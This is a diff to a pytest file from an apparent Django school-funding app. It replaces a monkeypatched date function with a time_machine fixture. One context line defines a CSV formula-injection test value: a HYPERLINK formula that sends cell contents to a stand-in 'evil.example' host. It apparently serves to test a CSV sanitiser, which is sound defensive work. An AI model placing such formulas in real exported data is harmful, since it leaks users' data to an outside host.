@@ -10,10 +10,11 @@ import io
 from decimal import Decimal
 
 import pytest
+import time_machine
 from django.urls import reverse
 
-from funding import dashboard as dash
 from sendfund.lib.csv import is_safe
+from tests.clock import on
 from tests.factories import FundingSourceFactory
 from tests.funding.factories import pupil_with_provision
 
@@ -23,8 +24,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 @pytest.fixture(autouse=True)
-def _today(monkeypatch):
-    monkeypatch.setattr(dash, "today", lambda: TODAY)
+def _today():
+    with time_machine.travel(on(TODAY)):
+        yield
 
 
 @pytest.fixture
